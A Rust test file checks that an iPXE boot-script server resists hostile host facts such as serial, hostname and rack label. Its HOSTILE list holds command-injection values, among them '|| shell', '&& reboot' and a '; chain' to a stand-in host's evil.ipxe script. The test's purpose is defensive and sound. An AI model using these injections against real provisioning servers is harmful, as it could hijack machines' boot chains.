//! Hostile facts in templates: a host reports a serial, hostname and rack
//! label (iPXE fills the boot-script URL from its SMBIOS and settings)
//! holding `#`, `||`, `&&`, `;`, spaces, `${…}`, quotes or control
//! characters. Its script must run the commands a benign host's runs —
//! read the way iPXE reads a script — and its kernel must get the
//! arguments the profile names, each value whole inside its own argument
//! or left out.

use crate::boot::boot_during;
use crate::http::Connection;
use crate::lab::{CLIENT_NS, FACTS_KERNEL_MAC, FACTS_SCRIPT_MAC, Lab, in_netns};

/// Values a host controls, each sent as its serial, hostname and rack.
const HOSTILE: [&str; 16] = [
    "SN1 # the rest is a comment",
    "#SN1",
    "a || shell",
    "b && reboot",
    "c ; chain http://198.18.80.9/evil.ipxe",
    "||",
    ";",
    "two words",
    "${net0/mac}",
    "${",
    "} || shell ${",
    "-rf",
    ":failed",
    "quote\"d",
    "trailing\\",
    "line\nshell",
];
const BENIGN: &str = "SN1";

/// Every hostile value for both kinds of profile that carry facts: the
/// script keeps its commands, the kernel its arguments.
pub(crate) fn hostile_facts(lab: &Lab) -> String {
    let checked = boot_during(lab, |begun| {
        in_netns(CLIENT_NS, || {
            begun.store(true, std::sync::atomic::Ordering::Release);
            let mut connection = Connection::open();
            let mut checked = Vec::new();
            for mac in [FACTS_KERNEL_MAC, FACTS_SCRIPT_MAC] {
                let benign =
                    script(&mut connection, mac, BENIGN).unwrap_or_else(|s| panic!("benign facts: {s}"));
                for value in HOSTILE {
                    checked.push(check(mac, value, &benign, script(&mut connection, mac, value)));
                }
            }
            checked
        })
    });
    let refused = checked.iter().filter(|c| c.is_none()).count();
    // Not everything was simply left out: values a kernel argument can
    // carry whole (spaces, `||`, `#` inside a quoted argument) got there.
    let carried: usize = checked.iter().flatten().sum();
    assert!(carried > 0, "no hostile value reached a kernel argument whole: the check proves little");
    format!(
        "{} scripts from hostile facts kept their commands and arguments ({carried} values carried whole into a kernel argument, the rest left out); {refused} refused (400: control characters)",
        checked.len() - refused
    )
}

/// Panics unless `got` (the script for facts `value`) is `benign`'s
/// commands; how many kernel arguments carry the value whole, or `None`
/// when it was refused for a control character.
fn check(mac: &str, value: &str, benign: &str, got: Result<String, u16>) -> Option<usize> {
    let hostile = match got {
        Ok(script) => script,
        Err(400) if value.chars().any(char::is_control) => return None,
        Err(status) => panic!("{mac} with facts {value:?}: status {status}"),
    };
    let why = |what: &str| {
        format!("{mac} with facts {value:?}: {what}\n--- benign:\n{benign}\n--- hostile:\n{hostile}")
    };
    assert_eq!(skeleton(&hostile), skeleton(benign), "{}", why("the commands changed"));
    assert_eq!(hostile.matches("${").count(), benign.matches("${").count(), "{}", why("a ${{…}} expansion"));
    let mut carried = 0;
    if let Some(benign_args) = kernel_args(benign) {
        let args = kernel_args(&hostile).unwrap_or_else(|| panic!("{}", why("no kernel line")));
        let keys = |args: &[(String, String)]| args.iter().map(|(k, _)| k.clone()).collect::<Vec<_>>();
        assert_eq!(keys(&args), keys(&benign_args), "{}", why("the kernel's arguments changed"));
        let collapsed = value.split_whitespace().collect::<Vec<_>>().join(" ");
        for ((key, got), (_, want)) in args.iter().zip(&benign_args) {
            if want == BENIGN {
                assert!(got.is_empty() || *got == collapsed, "{}", why(&format!("{key}={got:?}")));
                carried += usize::from(!got.is_empty());
            } else {
                assert_eq!(got, want, "{}", why("an argument without facts changed"));
            }
        }
    }
    Some(carried)
}

/// The boot script for `mac` with every fact set to `value`.
fn script(connection: &mut Connection, mac: &str, value: &str) -> Result<String, u16> {
    let v = encode(value);
    let path = format!("/boot.ipxe?mac={mac}&serial={v}&hostname={v}&label.rack={v}");
    let response = connection.get(&path).unwrap();
    if response.status != 200 {
        return Err(response.status);
    }
    Ok(String::from_utf8(response.body).unwrap())
}

fn encode(value: &str) -> String {
    value
        .bytes()
        .map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") })
        .collect()
}

/// A script's commands as iPXE runs them, one entry per line with any:
/// each command's name (and the setting `set` sets, the URL a fetching
/// command fetches) and the separators between them. Lines split at `\n`
/// (a trailing `\` joins the next); words at whitespace — iPXE has no
/// quoting —; a word starting with `#` begins a comment; `||`, `&&` and
/// `;` separate commands.
fn skeleton(script: &str) -> Vec<Vec<String>> {
    let joined = script.replace("\\\n", "");
    let mut out = Vec::new();
    for line in joined.split('\n') {
        let line = line.strip_suffix('\r').unwrap_or(line);
        let mut parts = Vec::new();
        let mut command: Vec<&str> = Vec::new();
        let words: Vec<&str> = line.split_ascii_whitespace().take_while(|w| !w.starts_with('#')).collect();
        for word in words.into_iter().chain([";"]) {
            if matches!(word, "||" | "&&" | ";") {
                if let Some(name) = command.first() {
                    parts.push(format!("command {name}"));
                    let arguments: Vec<&&str> =
                        command.iter().skip(1).filter(|w| !w.starts_with('-')).collect();
                    if *name == "set" {
                        parts.push(format!("setting {:?}", arguments.first()));
                    }
                    if let Some(url) = command.iter().find(|w| w.contains("://")) {
                        parts.push(format!("url {url}"));
                    }
                }
                parts.push(format!("separator {word}"));
                command.clear();
            } else {
                command.push(word);
            }
        }
        parts.pop();
        if !parts.is_empty() {
            out.push(parts);
        }
    }
    out
}

/// The kernel's command line from the script's `kernel` line, as iPXE
/// passes it (the words after the URL, joined by one space) and Linux
/// reads it (split at whitespace outside double quotes, quotes removed):
/// each argument's name and value.
fn kernel_args(script: &str) -> Option<Vec<(String, String)>> {
    let line = script.lines().find(|l| l.starts_with("kernel "))?;
    let mut words = line.split_ascii_whitespace().take_while(|w| !matches!(*w, "||" | "&&" | ";"));
    words.by_ref().find(|w| w.contains("://"))?;
    let cmdline = words.collect::<Vec<_>>().join(" ");
    let (mut args, mut current, mut quoted) = (Vec::new(), String::new(), false);
    for c in cmdline.chars().chain([' ']) {
        match c {
            '"' => quoted = !quoted,
            c if c.is_whitespace() && !quoted => {
                if !current.is_empty() {
                    let (key, value) = current.split_once('=').unwrap_or((&current, ""));
                    args.push((key.to_owned(), value.to_owned()));
                    current.clear();
                }
            }
            c => current.push(c),
        }
    }
    Some(args)
}
